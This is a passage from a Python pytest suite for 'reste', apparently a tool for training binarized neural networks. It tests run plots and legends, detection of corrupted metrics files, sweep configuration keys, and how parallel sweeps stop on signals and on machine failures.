    for name, mode in (("p", "paper"), ("g", "general"), ("g2", "general")):
        _real_like_run(tmp_path / name, "reste", [2.0, 0.5], {"estimating_error": [3.0, 2.0],
                                                             "gradient_stability": [1e-5, 2e-5]})
        config = json.loads((tmp_path / name / "config.json").read_text())
        (tmp_path / name / "config.json").write_text(json.dumps({**config, "indicators": mode}))
    with pytest.warns(UserWarning, match="measured the indicators in other modes"):
        fig = runs_figure([tmp_path / "p", tmp_path / "g"])
    assert "estimating error (modes differ!)" in [ax.get_title() for ax in fig.axes]
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        fig = runs_figure([tmp_path / "g", tmp_path / "g2"])
    assert "estimating error" in [ax.get_title() for ax in fig.axes]


def test_a_plot_of_a_run_with_a_line_repeated_out_of_its_place_names_the_damage(tmp_path):
    """(review experiments #3) A repeated line of metrics.jsonl drew a second point, the curve running back to its
    epoch. reste writes each epoch's line once, after the epoch before it: a line out of that order is damage, which
    the plot names as show and the report do (review chaos3 #2), in one line."""
    from reste.experiments.plots import runs_figure

    _real_like_run(tmp_path / "a", "reste", [2.0, 1.0, 0.5], {})
    path = tmp_path / "a" / "metrics.jsonl"
    lines = path.read_text().splitlines()
    path.write_text("\n".join([*lines, lines[1].replace('"test_acc": 49.0', '"test_acc": 60.0')]) + "\n")
    with pytest.raises(UsageError, match=r"metrics.jsonl lines 3 and 4 are out of order \(epoch 3, then 2\); the "
                                         r"file is corrupted"):
        runs_figure([tmp_path / "a"])


def test_the_legend_of_runs_names_no_setting_that_leaves_the_training_alone(tmp_path):
    """(review experiments #8) The legend named --tensorboard, --threads, --keep-top ... where runs were given them
    otherwise; it names the settings that change the training, --accumulate too (BatchNorm sees its micro-batches)."""
    from reste.experiments.plots import _setting_labels

    for name, epochs, free in (("a", 2, {"tensorboard": None, "threads": 1, "keep_top": 0}),
                               ("b", 3, {"tensorboard": "tensorboard", "threads": 2, "keep_top": 3})):
        _real_like_run(tmp_path / name, "reste", [2.0] * epochs, {})
        config = json.loads((tmp_path / name / "config.json").read_text())
        (tmp_path / name / "config.json").write_text(json.dumps({**config, **free}))
    assert _setting_labels([tmp_path / "a", tmp_path / "b"]) == ["epochs=2", "epochs=3"]
    config = json.loads((tmp_path / "b" / "config.json").read_text())
    (tmp_path / "b" / "config.json").write_text(json.dumps({**config, "accumulate": 2}))
    assert _setting_labels([tmp_path / "a", tmp_path / "b"]) == ["accumulate=1, epochs=2", "accumulate=2, epochs=3"]
    (tmp_path / "b" / "config.json").write_text(json.dumps({**config, "indicators": "general"}))
    # (newuser2: an unset setting read "indicators=None")
    assert _setting_labels([tmp_path / "a", tmp_path / "b"]) == ["epochs=2, indicators=off",
                                                                 "epochs=3, indicators=general"]
    bop = {**config, "indicators": None, "optimizer": "bop", "bop_gamma": 1e-4, "bop_threshold": 1e-8}
    (tmp_path / "b" / "config.json").write_text(json.dumps(bop))  # an SGD run beside a Bop run: no bop_gamma=off
    assert _setting_labels([tmp_path / "a", tmp_path / "b"]) == [
        "epochs=2, optimizer=sgd", "bop_gamma=0.0001, bop_threshold=1e-08, epochs=3, optimizer=bop"]


def test_runs_of_a_comparison_differ_by_marker_not_colour_alone(tmp_path):
    """`reste plot A B C D` told runs apart by colour alone (red and green look alike to some readers)."""
    from reste.experiments.plots import runs_figure

    for name, est in (("a", "reste"), ("b", "ste"), ("c", "ede")):
        _real_like_run(tmp_path / name, est, [2.0, 0.5, 0.1], {})
    fig = runs_figure([tmp_path / n for n in "abc"])
    acc = next(ax for ax in fig.axes if ax.get_title() == "accuracy (%)")
    test_lines = acc.lines[1::2]  # train, test for each run
    assert len({line.get_marker() for line in test_lines}) == 3
    assert len({h.get_marker() for h in fig.legends[0].legend_handles}) == 3
    one = runs_figure([tmp_path / "a"])  # one run: train hollow, test filled (newuser3 #3: a 1-epoch run's two points)
    assert [(line.get_marker(), line.get_markerfacecolor()) for line in one.axes[0].lines][0][1] == "none"
    assert one.axes[0].lines[1].get_markerfacecolor() != "none"
    _real_like_run(tmp_path / "e1", "reste", [2.0], {})  # one epoch: the epoch axis ticks at whole epochs
    acc = runs_figure([tmp_path / "e1"]).axes[0]
    low, high = acc.get_xlim()
    ticks = [t for t in acc.get_xticks() if low <= t <= high]
    assert ticks == [1.0], ticks


def test_run_curves_for_people(tmp_path):
    import matplotlib.colors

    from reste.experiments.plots import runs_figure

    _real_like_run(tmp_path / "a", "reste", [2.0, 0.5, 0.1], {"o": [1.0, 2.0, 3.0]})
    _real_like_run(tmp_path / "b", "ste", [2.0, 1e3, 1e6], {})  # diverging: the log axis keeps "a" readable
    fig = runs_figure([tmp_path / "a", tmp_path / "b"])
    panels = {ax.get_title(): ax for ax in fig.axes if ax.get_title()}
    assert set(panels) == {"accuracy (%)", "cross-entropy loss (log)", "learning rate and schedule"}
    assert all(ax.get_visible() and ax.lines for ax in fig.axes), "an empty panel"
    assert panels["cross-entropy loss (log)"].get_yscale() == "log"
    lr_lines = panels["learning rate and schedule"].lines
    assert [list(line.get_ydata()) for line in lr_lines] == [[0.1, 0.05, 0.1 / 3]] * 2
    twin = next(ax for ax in fig.axes if not ax.get_title())  # the schedule's right-hand axis
    assert [list(line.get_ydata()) for line in twin.lines] == [[1.0, 2.0, 3.0]]
    assert "o (dashed)" in twin.get_ylabel()
    # a plugin estimator's schedule value (any number of a line beside the metrics) is drawn too
    _real_like_run(tmp_path / "plugin", "ste", [2.0, 1.0], {"beta": [0.5, 0.25]})
    twin = next(ax for ax in runs_figure([tmp_path / "plugin"]).axes if not ax.get_title())
    assert [list(line.get_ydata()) for line in twin.lines] == [[0.5, 0.25]] and "beta" in twin.get_ylabel()
    legend = [t.get_text() for t in fig.legends[0].get_texts()]
    assert legend == ["estimator=reste", "estimator=ste"]  # the setting that differs

    # runs of other estimators name their own options only (as a sweep's runs hold them: written out in full),
    # and twelve runs get twelve colours
    for i, est in enumerate(["reste", "ste", "ede"] * 4):
        run = tmp_path / "many" / f"r{i}"
        _real_like_run(run, est, [2.0, 1.0], {})
        config = json.loads((run / "config.json").read_text())
        config.update(estimator_options=get_estimator(est).config(), seed=i)
        (run / "config.json").write_text(json.dumps(config))
    fig = runs_figure(sorted((tmp_path / "many").iterdir(), key=lambda p: int(p.name[1:])))
    legend = [t.get_text() for t in fig.legends[0].get_texts()]
    assert legend[1] == "clip=1.0, estimator=ste, seed=1", legend[1]
    assert "o_end" in legend[0] and "o_end" not in legend[2] and "clip" not in legend[0]
    colors = [tuple(map(float, matplotlib.colors.to_rgba(h.get_color()))) for h in fig.legends[0].legend_handles]
    assert len(set(colors)) == 12

    # one run with the indicators and neither lr nor schedule logged: four panels, none empty, no run legend
    _fake_run(tmp_path / "c", [50, 60, 70], [3, 2, 1], [1e-5, 2e-5, 3e-5])
    fig = runs_figure([tmp_path / "c"])
    assert [ax.get_title() for ax in fig.axes] == [
        "accuracy (%)", "cross-entropy loss (log)", "estimating error", "gradient stability (var |grad|)"]
    assert all(ax.lines for ax in fig.axes) and not fig.legends
    # with lr and schedule too: five panels, in rows of three and two
    _real_like_run(tmp_path / "d", "reste", [2.0, 0.5, 0.1], {"o": [1.0, 2.0, 3.0], "estimating_error": [3, 2, 1],
                                                             "gradient_stability": [1e-5, 2e-5, 3e-5]})
    fig = runs_figure([tmp_path / "d"])
    titled = [ax for ax in fig.axes if ax.get_title()]
    assert len(titled) == 5 and all(ax.lines for ax in fig.axes)
    rows = sorted({round(ax.get_position().y0, 2) for ax in titled})
    assert len(rows) == 2 and sum(round(ax.get_position().y0, 2) == rows[0] for ax in titled) == 2


def test_config_key_ignores_free_fields_and_fields_at_their_default(monkeypatch):
    """A sweep names its runs by config_key: a field added to TrainConfig later, at its default,
    must not rename (and retrain) the runs of an existing sweep."""
    import dataclasses

    from reste.experiments.sweep import config_key

    cfg = TrainConfig(dataset="digits", epochs=2).resolve()
    key = config_key(cfg)
    assert config_key(dataclasses.replace(cfg, epochs=3)) != key
    assert config_key(dataclasses.replace(cfg, seed=5, threads=1, workers=2)) == key
    # the settings free on resume (reste.rundir.RESUME_FREE) are free in a sweep too
    assert config_key(dataclasses.replace(cfg, keep_top=2, save_every=5.0, tensorboard="tb")) == key
    assert config_key(dataclasses.replace(cfg, cuda_graphs=True)) != key  # (not a free field)
    # as if cuda_graphs did not exist yet: its default value changes nothing
    monkeypatch.setattr(TrainConfig, "to_dict",
                        lambda self: {k: v for k, v in dataclasses.asdict(self).items() if k != "cuda_graphs"})
    assert config_key(cfg) == key


def test_a_run_with_complete_metrics_but_an_older_checkpoint_is_not_done(sweep, tmp_path):
    # a crash between an epoch's metrics line and its last.pt leaves every line and the previous checkpoint
    import shutil

    import torch

    out, _ = sweep
    manifest = json.loads((out / "sweep.json").read_text())
    run = tmp_path / "run"
    shutil.copytree(out / manifest["settings"][0]["runs"]["0"], run)
    assert run_state(run, 1) == "done"
    ckpt = torch.load(run / "last.pt", weights_only=True)
    ckpt["epoch"] = 0  # as if last.pt still held the state before the epoch
    from reste.checkpoint import save_checkpoint

    save_checkpoint(ckpt, run / "last.pt")
    assert run_state(run, 1) == "partial"
    (run / "last.pt").write_bytes(b"torn")
    assert run_state(run, 1) == "done"  # damaged, but every epoch's metrics are there: the report counts it
    (run / "metrics.jsonl").write_text((run / "metrics.jsonl").read_text() * 2)  # a line twice: still epoch 1 only
    assert run_state(run, 2) == "partial"  # the set of epochs, not the count of lines


def _pending_runs(tmp_path, seeds):
    from reste.experiments.sweep import run_sweep

    base = TrainConfig(dataset="digits", epochs=1)
    return lambda **kw: run_sweep(base, {"estimator": ["ste"]}, seeds, tmp_path / "s", report=False,
                                  log=lambda _m: None, **kw)


def test_a_run_gets_the_threads_of_a_worker_even_when_it_is_the_only_one_left(tmp_path, monkeypatch):
    import torch

    from reste.experiments import sweep as sw

    seen = []
    failed = {"status": "failed", "error": "x", "seconds": 0}
    monkeypatch.setattr(sw, "_execute", lambda job, stop=None: seen.append(torch.get_num_threads()) or failed)
    monkeypatch.setattr(sw, "threads_per_job", lambda jobs: 3)
    before = torch.get_num_threads()
    _pending_runs(tmp_path, [0])(jobs=2)  # one pending run: trained in this process, as a worker would
    assert seen == [3] and torch.get_num_threads() == before


def test_a_stop_signal_stops_the_sweep(tmp_path, monkeypatch):
    from reste import engine

    calls = []

    def stopped(config, run_dir, **_kw):
        calls.append(run_dir)
        raise engine.Preempted("stopped by SIGTERM at epoch 1", 15)

    monkeypatch.setattr(engine, "train", stopped)
    with pytest.raises(engine.Preempted):
        _pending_runs(tmp_path, [0, 1, 2])(jobs=1)
    assert len(calls) == 1  # the next runs did not start


@pytest.mark.parametrize("jobs", [1, 2])
def test_a_failure_of_the_machine_starts_no_further_run(tmp_path, monkeypatch, jobs):
    """(review rev15 #13) --compile without a C++ compiler failed every run of a sweep, one after the other: each
    later run would fail the same way, so none is started after the first such failure; they are said to be left
    out, with the cause, and are not recorded as failed (the same command trains them once the machine is mended).
    Two jobs: the pool is given a run as one ends (here threads stand in for the worker processes)."""
    from concurrent.futures import ThreadPoolExecutor

    from reste import engine
    from reste.experiments import sweep as sw
    from reste.rundir import failure

    class InductorError(RuntimeError):
        pass

    calls = []

    def no_compiler(config, run_dir, **_kw):
        calls.append(Path(run_dir))
        raise InductorError("InvalidCxxCompiler: No working C++ compiler found")

    monkeypatch.setattr(engine, "train", no_compiler)
    monkeypatch.setattr(sw, "ProcessPoolExecutor", lambda max_workers, **_kw: ThreadPoolExecutor(max_workers))
    lines, failures = [], []
    base = TrainConfig(dataset="digits", epochs=1, compile=True)
    sw.run_sweep(base, {"estimator": ["ste"]}, [0, 1, 2, 3, 4], tmp_path / "s", report=False, jobs=jobs,
                 log=lines.append, failures=failures)
    assert len(calls) == jobs  # the runs going on when the first failed: no other started
    assert sorted(status for *_, status in failures) == ["failed"] * jobs + ["left out"] * (5 - jobs)
    left = [line for line in lines if "LEFT OUT" in line]
    assert len(left) == 5 - jobs and all("not started: it would fail for the machine's cause above" in line
                                         for line in left)
    assert sorted(int(re.match(r"\[(\d)/5\]", line)[1]) for line in lines if "FAILED" in line or "LEFT" in line) == [
        1, 2, 3, 4, 5]  # each run its own number
    assert all("needs a C++ compiler" in failure(d) for d in calls)
    assert len(list((tmp_path / "s" / "runs").glob("*/seed*"))) == jobs  # no folder made for the others
    # (review rev16 #1) a compile axis: the runs without --compile need no compiler, and train
    calls.clear()
    base = TrainConfig(dataset="digits", epochs=1)
    sw.run_sweep(base, {"compile": [True, False], "lr": [0.1, 0.05]}, [0], tmp_path / "c", report=False, jobs=jobs,
                 log=lambda _m: None)
    # the first compile run (and the one started beside it), then both without --compile, which are started (the
    # stand-in fails them too: it does not look at the setting)
    assert len(calls) == 3 + (jobs - 1) and len(set(calls)) == len(calls)


@pytest.fixture
def parallel_sweep(tmp_path):
    """A 2-job sweep of three long digits runs (ste, reste, then ede), once the first two have finished an epoch:
    (process, its workers, its folder). The sweep and its workers are killed after the test, whatever happened."""
    import os
    import signal
    import subprocess
    import sys
    import time

    out = tmp_path / "s"
    env = {**os.environ, "OMP_NUM_THREADS": "1"}
    # (a terminal's Ctrl-C: a job started in the background, as CI's, inherits SIGINT ignored, which reste keeps)
    proc = subprocess.Popen([sys.executable, "-m", "reste.cli", "sweep", "--grid", "estimator=ste,reste,ede",
                             "--seeds", "0", "--epochs", "500", "--jobs", "2", "--threads", "1", "--out", str(out)],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env,
                            preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL))
    workers: list[int] = []
    try:
        deadline = time.monotonic() + 180
        while time.monotonic() < deadline:
            logs = list(out.glob("runs/*/seed0/metrics.jsonl"))
            if len(logs) == 2 and all(p.read_text().count("\n") >= 1 for p in logs):
                break
            assert proc.poll() is None, proc.communicate()
            time.sleep(0.2)
        else:
            pytest.fail("the sweep's first two runs did not start within 3 minutes")
        found = subprocess.run(["pgrep", "-P", str(proc.pid)], capture_output=True, text=True).stdout.split()
        workers[:] = [int(w) for w in found]
        yield proc, workers, out
    finally:
        for pid in [proc.pid, *workers]:
            try:
                os.kill(pid, signal.SIGKILL)
            except ProcessLookupError:
                pass
        proc.communicate()


def test_a_stop_while_the_workers_start_and_a_reader_gone_stop_the_sweep(tmp_path):
    """(review experiments #1) SIGTERM while the workers still started (spawn, import torch: seconds) killed them:
    the pool broke, threads printed tracebacks, and the sweep said a worker died (exit 1, not 143). The stop is
    held until a worker can take it. (#11) With the output's reader gone (`| head -1`), a parallel sweep went on
    training every queued run, silently; it stops as on SIGTERM (exit 141), and no other run starts."""
    import os
    import signal
    import subprocess
    import sys
    import time

    env = {**os.environ, "OMP_NUM_THREADS": "1"}
    argv = [sys.executable, "-m", "reste.cli", "sweep", "--grid", "estimator=ste,reste", "--seeds", "0,1", "--epochs",
            "300", "--jobs", "2", "--threads", "1"]
    proc = subprocess.Popen([*argv, "--out", str(tmp_path / "a")], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            text=True, env=env)
    try:
        for line in proc.stdout:  # both runs announced: their workers are starting
            if line.startswith("[2/4]"):
                break
        proc.send_signal(signal.SIGTERM)
        out, err = proc.communicate(timeout=300)
    finally:
        proc.kill()
    assert proc.returncode == 143, err
    assert "sweep stopped by SIGTERM" in err and "died" not in err and "Traceback" not in err
    proc = subprocess.Popen([*argv, "--out", str(tmp_path / "b")], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            env=env)
    try:
        proc.stdout.readline()
        proc.stdout.close()  # the reader goes away
        start = time.monotonic()
        err = proc.communicate(timeout=300)[1].decode()
    finally:
        proc.kill()
    assert proc.returncode == 141 and "its output's reader went away" in err and "Traceback" not in err, err
    assert not list((tmp_path / "b").glob("runs/*/seed1")), time.monotonic() - start  # no queued run started
    trained = [p.read_text().count("\n") for p in (tmp_path / "b").glob("runs/*/seed0/metrics.jsonl")]
    assert all(n < 300 for n in trained)  # the runs going on were stopped, not trained to their end


def _gone(pids: list[int], seconds: float) -> bool:
    """Whether every process in ``pids`` ended (or is a zombie) within ``seconds``."""
    import time

    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        alive = []
        for pid in pids:
            try:
                state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
            except (FileNotFoundError, ProcessLookupError, IndexError):
                continue
            if state != "Z":
                alive.append(pid)
        if not alive:
            return True
        time.sleep(0.2)
    return False


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="reads /proc")
def test_a_stop_signal_reaches_the_runs_of_a_parallel_sweep(parallel_sweep):
    """SIGTERM to a sweep of 2 jobs: both running runs save their step and stop, the third (already queued for a
    worker) does not start, the sweep says how to continue, and no worker is left training on its own (before,
    the workers went on and kept the run folders locked)."""
    import signal

    proc, workers, out = parallel_sweep
    proc.send_signal(signal.SIGTERM)
    _, err = proc.communicate(timeout=120)
    assert proc.returncode == 128 + signal.SIGTERM, err
    assert err.strip().splitlines()[-1].startswith("reste: sweep stopped by SIGTERM; run the same command again")
    assert _gone(workers, 30), workers
    logs = list(out.glob("runs/*/seed0/train.log"))
    assert len(logs) == 2 and not list(out.glob("runs/ede-*")), logs
    for log in logs:
        assert "stopped by SIGTERM" in log.read_text().splitlines()[-1]


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="reads /proc")
def test_a_second_ctrl_c_stops_a_parallel_sweep_at_once(parallel_sweep):
    """(review sweeps #5) Two SIGINTs to the sweep alone (`kill -INT`), the second before the sweep passed the first
    on: its KeyboardInterrupt left the pool's block, whose exit ran every queued run to its end, without a word.
    Now the running runs stop, the queued one never starts, and Ctrl-C's line is printed once (not per worker)."""
    import signal
    import time

    proc, workers, out = parallel_sweep
    proc.send_signal(signal.SIGINT)
    time.sleep(0.05)
    proc.send_signal(signal.SIGINT)
    _, err = proc.communicate(timeout=120)
    assert proc.returncode == 130, err
    assert err.count("Ctrl-C: stopping after saving the current step") == 1, err
    assert _gone(workers, 30), workers
    assert len(list(out.glob("runs/*/seed0/train.log"))) == 2 and not list(out.glob("runs/ede-*")), err


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="reads /proc (PR_SET_PDEATHSIG is Linux's)")
def test_the_runs_of_a_killed_parallel_sweep_stop_with_it(parallel_sweep):
    """SIGKILL to a sweep of 2 jobs: its workers save their step and exit."""
    import signal

    proc, workers, out = parallel_sweep
    proc.send_signal(signal.SIGKILL)
    proc.communicate(timeout=60)
    assert _gone(workers, 60), workers
    logs = list(out.glob("runs/*/seed0/train.log"))
    assert len(logs) == 2 and all("stopped by SIGTERM" in p.read_text() for p in logs)
    assert all((p.parent / "last.pt").exists() for p in logs)


def test_the_tables_hold_every_run_finished_so_far_while_the_sweep_runs(tmp_path, monkeypatch):
    """A sweep stopped after its first run still leaves that run's row (figures come only at the end)."""
    from reste import engine

    real_train = engine.train
    seen = []

    def train(config, run_dir, **kw):
        runs = tmp_path / "s" / "runs.csv"
        seen.append([r["seed"] for r in _read_csv(runs)] if runs.is_file() else None)
        if len(seen) == 3:
            raise engine.Preempted("stopped by SIGTERM at epoch 1", 15)
        return real_train(config, run_dir, **kw)

    monkeypatch.setattr(engine, "train", train)
    base = TrainConfig(dataset="digits", model="digits_1w1a", epochs=1, threads=1)
    from reste.experiments.sweep import run_sweep

    with pytest.raises(engine.Preempted):
        run_sweep(base, {"estimator": ["ste"]}, [0, 1, 2], tmp_path / "s", log=lambda _m: None)
    assert seen == [None, ["0"], ["0", "1"]]
    assert [r["seed"] for r in _read_csv(tmp_path / "s" / "epochs.csv")] == ["0", "1"]
    assert not list((tmp_path / "s").glob("*.png"))


def test_a_table_that_cannot_be_written_mid_sweep_does_not_stop_the_runs(tmp_path, monkeypatch):
    from reste.experiments import sweep as sw

    done = {"status": "done", "result": {"best_acc": 1.0, "final_acc": 1.0}, "seconds": 0}
    monkeypatch.setattr(sw, "_execute", lambda job, stop=None: done)
    calls = []

    def broken(out, plots=True, log=None):
        calls.append(plots)
        raise UsageError(f"{out}/sweep.json is damaged")

    monkeypatch.setattr(sw, "summarize", broken)
    lines = []
    base = TrainConfig(dataset="digits", epochs=1)
    with pytest.raises(UsageError):  # at the end the error is the sweep's answer
        sw.run_sweep(base, {"estimator": ["ste"]}, [0, 1, 2], tmp_path / "s", log=lines.append)
    assert calls == [False, False, True]  # all three runs went on
    assert sum("cannot write the tables so far" in line for line in lines) == 1


def test_a_parallel_runs_end_line_carries_the_number_of_its_start_line(tmp_path, monkeypatch):
    """(review rev3 L10) with --jobs > 1 runs end in another order than they start: each end line carries the
    [i/N] of its run's start line, not its place among the ends."""
    from reste.experiments import sweep as sw

    def parallel(pending, jobs, threads, report_one, announce):  # all start, then end last first
        for s, seed, job in pending:
            announce(s, seed, job)
        for s, seed, job in reversed(pending):
            report_one(s, seed, {"status": "failed", "error": "boom", "seconds": 0.0})

    monkeypatch.setattr(sw, "_run_pending", parallel)
    lines = []
    sw.run_sweep(TrainConfig(dataset="digits", epochs=1), {"estimator": ["ste"]}, [0, 1, 2], tmp_path / "s", jobs=3,
                 log=lines.append, report=False)
    starts = {line.split(":")[0] for line in lines if ": training ->" in line}
    ends = {line.split(":")[0] for line in lines if "FAILED" in line}
    assert starts == ends == {f"[{i + 1}/3] estimator=ste seed {i}" for i in range(3)}


def test_a_paper_mode_sweep_reports_the_authors_aggregate(tmp_path, capsys):
    """Paper mode: per run, the error averaged and the stability summed over epochs, as the authors and as
    `reste train --indicators paper` ends; the table says so."""
    assert main(["sweep", "--grid", "o_end=3", "--seeds", "0", "--epochs", "3", "--indicators", "paper", "--threads",
                 "1", "--out", str(tmp_path / "s")]) == 0
    run = _read_csv(tmp_path / "s" / "runs.csv")[0]
    metrics = read_metrics(tmp_path / "s" / run["run_dir"])
    assert float(run["gradient_stability"]) == pytest.approx(sum(m["gradient_stability"] for m in metrics))
    assert float(run["estimating_error"]) == pytest.approx(statistics.fmean(m["estimating_error"] for m in metrics))
    assert "gradient stability sum over epochs (the authors' aggregate)" in (tmp_path / "s" / "results.md").read_text()
    assert not (tmp_path / "s" / "accuracy_vs_o_end.png").exists()  # one o_end: no curve (review sweep L5)
    from reste.experiments.plots import wanted_figures

    rows = [{"o_end": o, "n": 1, "estimating_error_mean": None} for o in (1, 3)]
    assert wanted_figures({"grid": {"o_end": [1, 3]}}, rows) == ["accuracy_vs_o_end.png"]
    assert wanted_figures({"grid": {"o_end": [1, 3]}}, [rows[0], {**rows[1], "n": 0}]) == []


def test_the_o_end_figure_leaves_out_a_setting_without_a_counted_run(tmp_path, monkeypatch):
    """(review mut10 #4) A report while the sweep runs, or after a run of it was damaged: o_end=10 has no counted run
    (its means None). Drawn, it failed `reste report` ("unsupported operand type(s) for +: 'NoneType' and 'int'");
    the figure has the o_end values that have runs."""
    from reste.experiments import plots

    def row(o, n, acc):
        return {"o_end": o, "n": n, "setting": f"o_end={o}", "best_acc_mean": acc, "best_acc_std": 0.5 if n else None,
                "final_acc_mean": acc, "final_acc_std": None}

    drawn = []
    monkeypatch.setattr(plots, "_save", lambda fig, path: drawn.append(fig))
    rows = [row(1, 2, 90.0), row(3, 2, 92.0), row(10, 0, None)]
    assert plots.o_end_figure(tmp_path, {"grid": {"o_end": [1, 3, 10]}}, rows, "o_end",
                              indicators=False) == "accuracy_vs_o_end.png"
    best = drawn[0].axes[0]
    assert [t.get_text() for t in best.get_xticklabels()] == ["1", "3"]
    line = best.get_lines()[0]  # (then the error bars' caps)
    assert (list(line.get_xdata()), list(line.get_ydata())) == ([1.0, 3.0], [90.0, 92.0])


def test_the_o_end_figures_indicator_panels_say_how_the_run_level_values_are_made(tmp_path, monkeypatch):
    """(review stats1, suggestion 1) in the paper mode the stability panel plots a sum over epochs, titled as if it
    were a var |grad| of its own; error_vs_stability.png's axes said the aggregate, this figure did not."""
    from reste.experiments import plots

    rows = [{"o_end": o, "n": 2, "setting": f"o_end={o}", **{f"{k}_{s}": 1.0 for k in plots.LABELS for s in
                                                              ("mean", "std")},
             **{f"{k}_{s}": 90.0 for k in ("best_acc", "final_acc") for s in ("mean", "std")}} for o in (1, 3)]
    for mode, made in (("paper", ("mean over epochs", "sum over epochs")), ("general", ("mean over epochs",) * 2),
                       (None, ("each setting's mode",) * 2)):
        drawn = []
        monkeypatch.setattr(plots, "_save", lambda fig, path: drawn.append(fig))
        plots.o_end_figure(tmp_path, {"grid": {"o_end": [1, 3]}}, rows, "o_end", indicators=True, mode=mode)
        titles = [ax.get_title() for ax in drawn[0].axes]
        assert titles[2:] == [f"estimating error\n({made[0]})", f"gradient stability (var |grad|)\n({made[1]})"], titles


def test_a_paper_mode_sweep_over_estimators_warns_that_the_error_does_not_compare(tmp_path, capsys, monkeypatch):
    """Paper mode's error is ReSTE's F at o_end for every estimator: a sweep comparing estimators says so at its
    start, in results.md and on error_vs_stability.png (review sweep M1)."""
    from reste.experiments import plots

    captions = []
    draw = plots.error_vs_stability_figure
    monkeypatch.setattr(plots, "error_vs_stability_figure",
                        lambda out, rows, mode, warning="": captions.append(warning) or draw(out, rows, mode, warning))
    assert main(["sweep", "--grid", "estimator=ste,ede", "--seeds", "0", "--epochs", "1", "--indicators", "paper",
                 "--threads", "1", "--no-progress", "--out", str(tmp_path / "s")]) == 0
    said = "does not compare across estimators (use --indicators general)"
    assert said in capsys.readouterr().out
    assert said in (tmp_path / "s" / "results.md").read_text()
    assert len(captions) == 1 and said in captions[0] and "ede, ste" in captions[0]
    assert _is_png(tmp_path / "s" / "error_vs_stability.png")


def test_plots_takes_the_paper_warning_from_its_caller_and_imports_nothing_of_report():
    """(review rev3 L11) report imports plots (lazily); plots importing report back would be a cycle."""
    import ast
    from reste.experiments import plots

    tree = ast.parse(Path(plots.__file__).read_text())
    names = [n.module for n in ast.walk(tree) if isinstance(n, ast.ImportFrom)]
    names += [a.name for n in ast.walk(tree) if isinstance(n, (ast.Import, ast.ImportFrom)) for a in n.names]
    assert not [n for n in names if n and n.split(".")[-1] == "report"]


def test_the_docs_state_when_accuracy_vs_o_end_is_drawn():
    """(review rev3 L8) the figure needs reported runs at two values of the o_end axis, and the docs say so."""
    from reste.experiments import plots, report

    manifest = {"grid": {"o_end": [2, 3]}}
    row = {"estimating_error_mean": None, "n": 1}
    assert plots.wanted_figures(manifest, [row | {"o_end": 2}, row | {"o_end": 3, "n": 0}]) == []
    assert plots.wanted_figures(manifest, [row | {"o_end": 2}, row | {"o_end": 3}]) == ["accuracy_vs_o_end.png"]
    readme = (Path(__file__).resolve().parents[1] / "docs" / "results" / "README.md").read_text()
    for text in (report.__doc__, readme):
        assert "runs at two of its values or more are reported" in " ".join(text.split())


def test_a_paper_mode_sweep_of_one_estimator_or_a_general_one_does_not_warn(sweep):
    from reste.experiments.report import paper_mode_estimators

    out, _ = sweep  # ste and reste, general mode
    assert "WARNING" not in (out / "results.md").read_text()
    assert paper_mode_estimators([{"estimator": "reste", "indicators": "paper"}] * 2) == []
    assert paper_mode_estimators([{"estimator": "reste", "indicators": "paper"},
                                  {"estimator": "ste", "indicators": "general"}]) == []


def test_a_grid_over_data_sets_passes_each_data_flag_where_it_means_something():
    from reste.experiments import expand_grid

    base = TrainConfig(epochs=1, download=True)
    settings = {s.config.dataset: s.config for s in expand_grid(base, {"dataset": ["DIGITS", "fashion-mnist"]})}
    assert settings["digits"].download is False and settings["fashion-mnist"].download is True
    # a flag that does nothing for any data set of the grid is refused, as by reste train
    with pytest.raises(UsageError, match="digits reads no files .it comes with its package.; drop --download"):
        expand_grid(base, {"dataset": ["digits"]})
    with pytest.raises(UsageError, match="held in memory and batched there"):
        expand_grid(TrainConfig(epochs=1, workers=3), {"dataset": ["digits", "fashion-mnist"]})


def test_a_sweep_that_cannot_start_removes_only_the_folders_it_made(tmp_path, capsys):
    existing = tmp_path / "existing"
    existing.mkdir()
    out = tmp_path / "new" / ".." / "existing"
    assert main(["sweep", "--dataset", "fashion-mnist", "--data-path", str(tmp_path / "nowhere"), "--grid",
                 "estimator=ste", "--epochs", "1", "--out", str(out)]) == 2
    assert existing.is_dir() and not (tmp_path / "new").exists()


# ---------------------------------------------------------------- one rule for what a sweep reports


def test_a_finished_run_changed_since_is_refused_by_the_sweep_and_kept_by_the_report(sweep, tmp_path, capsys):
    """`reste train --resume --force` on a sweep's finished run: the sweep does not count it (it held another
    estimator and epoch count than its setting), the report keeps the row it wrote for the run and says why."""
    out, argv = _copy(sweep, tmp_path)
    before = (out / "runs.csv").read_text()
    ste = next((out / "runs").glob("ste-*/seed0"))
    config = json.loads((ste / "config.json").read_text())
    (ste / "config.json").write_text(json.dumps({**config, "estimator": "ede", "estimator_options": {}}))
    capsys.readouterr()
    assert main(argv) == 2
    assert "holds a run with other settings" in capsys.readouterr().err
    lines = []
    summarize(out, plots=False, log=lines.append)
    assert any("estimator=ste seed 0: it holds a run with other settings" in line for line in lines)
    assert (out / "runs.csv").read_text() == before


def test_show_and_plot_of_a_sweep_name_a_run_changed_since_and_do_not_count_it(sweep, tmp_path, capsys,
                                                                             monkeypatch):
    """(review experiments #2, readme2 #4) `reste show SWEEP` called a run changed with `reste train --resume --force`
    finished, and `reste plot SWEEP` drew it as its setting's run, where the sweep stops at it and the report keeps
    the row it wrote: show names it changed, with the reason; plot draws the epochs the report kept, or leaves it
    out, saying so."""
    from reste.experiments import plots

    out, _ = _copy(sweep, tmp_path)
    ste = next((out / "runs").glob("ste-*/seed0"))
    config = json.loads((ste / "config.json").read_text())
    (ste / "config.json").write_text(json.dumps({**config, "estimator": "ede", "estimator_options": {}}))
    row = next(r for r in _read_csv(out / "runs.csv") if r["setting"] == "estimator=ste")
    capsys.readouterr()
    assert main(["show", str(out)]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[1] == "progress   1 finished, 1 changed"
